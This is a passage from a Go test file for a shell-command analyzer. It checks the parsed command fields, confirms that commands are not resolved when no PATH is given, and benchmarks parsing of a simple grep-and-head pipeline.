	c := m["commands"].([]any)[1].(map[string]any)
	if _, ok := c["wrapper"]; ok {
		t.Error("plain command has a wrapper key")
	}
	for _, k := range []string{"args", "env", "flags", "dynamic_reasons"} {
		if _, ok := c[k].([]any); !ok {
			t.Errorf("command %s = %#v, want an array", k, c[k])
		}
	}
	if c["stdin_from_pipe"] != true || c["base"] != "head" {
		t.Errorf("command = %v", c)
	}
}

// TestNoResolutionWithoutPath: an empty Path (a remote target) resolves
// nothing, even full paths that exist here.
func TestNoResolutionWithoutPath(t *testing.T) {
	fx := newFixture(t)
	f, err := Analyze(filepath.Join(fx.bin, "rm")+" x; rm y", Options{Workdir: fx.work})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range f.Commands {
		if c.Resolved != "" {
			t.Errorf("%s resolved to %q", c.Name, c.Resolved)
		}
	}
}

func BenchmarkAnalyze(b *testing.B) {
	opts := Options{Path: []string{"/usr/bin", "/bin"}, Workdir: "/tmp"}
	for b.Loop() {
		if _, err := Analyze("grep -rn foo . | head -20", opts); err != nil {
			b.Fatal(err)
		}
	}
}
